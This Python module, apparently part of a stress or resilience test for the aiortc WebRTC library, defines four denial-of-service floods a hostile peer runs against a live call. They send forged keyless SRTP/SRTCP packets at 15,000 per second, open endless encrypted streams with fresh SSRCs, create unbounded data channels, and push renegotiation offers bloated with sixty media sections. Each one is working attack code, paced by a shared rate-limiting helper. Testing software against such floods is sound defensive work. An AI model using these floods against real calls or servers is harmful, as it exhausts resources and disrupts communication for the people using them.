"""What a hostile peer does to the other end of a running call of aiortc's, so many a second for so long.

Each flood is a coroutine `flood(peer, seconds)`. The other's picture and sound go on meanwhile, as a program that nobody
suspects would have it.
"""

import asyncio
import os
import random
import re
import struct
import time

# So many to the second; a call has some hundreds.
FORGED_PACKETS = 15_000
STREAMS = 250
CHANNELS = 450
OFFERS = 40
SECTIONS = 60


async def _paced(seconds, per_second, one):
    """Does `one(number)` at this rate, however coarse the clock's waking is."""
    start = time.monotonic()
    done = 0
    while (elapsed := time.monotonic() - start) < seconds:
        while done < elapsed * per_second:
            await one(done)
            done += 1
        await asyncio.sleep(0.005)


def _dtls(peer):
    return peer.connection.getTransceivers()[0].receiver.transport


async def forged_packets(peer, seconds):
    """Packets that look like SRTP and SRTCP of a new SSRC each, from the peer's own address, without a key."""
    ice = _dtls(peer).transport

    async def send(number):
        kind = 200 if number % 8 == 0 else 102
        await ice._send(struct.pack("!BB", 0x80, kind) + os.urandom(58))

    await _paced(seconds, FORGED_PACKETS, send)


async def streams(peer, seconds):
    """Streams without end that are encrypted as they should be: three packets of each SSRC."""
    dtls = _dtls(peer)
    first = random.getrandbits(31)

    async def send(number):
        for sequence in range(3):
            header = struct.pack("!BBHII", 0x80, 102, sequence, number * 3000, first + number)
            await dtls._send_rtp(header + bytes(40))

    await _paced(seconds, STREAMS, send)


async def channels(peer, seconds):
    """Data channels without end, over the association that the call has."""

    async def open_one(number):
        peer.connection.createDataChannel(f"channel {number}")

    await _paced(seconds, CHANNELS, open_one)


async def offers(peer, seconds):
    """Offers of ever new media sections."""
    offer = peer.connection.localDescription.sdp
    head, *sections = re.split(r"(?m)^(?=m=)", offer)
    video = next(section for section in sections if section.startswith("m=video"))
    # As short as sixty of them need to be for one message.
    needed = ("m=", "c=", "a=mid", "a=sendrecv", "a=setup", "a=rtcp-mux", "a=ice-", "a=fingerprint:sha-256", "a=rtpmap")
    video = "".join(line for line in video.splitlines(True) if line.startswith(needed))

    async def send(number):
        more = (re.sub(r"a=mid:\S+", f"a=mid:x{number * SECTIONS + n}", video) for n in range(SECTIONS))
        version = re.sub(r"(?m)^(o=\S+ \S+) \S+", rf"\g<1> {4_000_000_000 + number}", head)
        sdp = version + "".join(sections) + "".join(more)
        await peer.send(type="offer", offer={"type": "offer", "sdp": sdp})

    await _paced(seconds, OFFERS, send)


FLOODS = {"forged-packets": forged_packets, "streams": streams, "channels": channels, "offers": offers}
